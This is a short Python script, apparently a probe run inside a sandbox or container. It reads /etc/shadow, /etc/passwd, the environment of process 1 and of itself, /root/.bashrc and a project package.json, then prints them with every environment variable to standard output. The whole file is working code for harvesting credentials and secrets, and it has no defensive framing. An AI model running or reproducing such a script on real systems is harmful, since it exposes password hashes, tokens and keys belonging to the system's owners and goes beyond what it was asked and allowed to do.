import os
import sys

found = []
for path in ('/proc/1/environ', '/proc/self/environ', '/etc/shadow', '/etc/passwd', '/work/main/package.json', '/root/.bashrc'):
    try:
        with open(path, 'rb') as f:
            found.append(path + '=' + f.read().decode('latin1'))
    except OSError:
        pass
found.append('env=' + repr(sorted(os.environ.items())))
sys.stdout.write('\n'.join(found) + '\n')
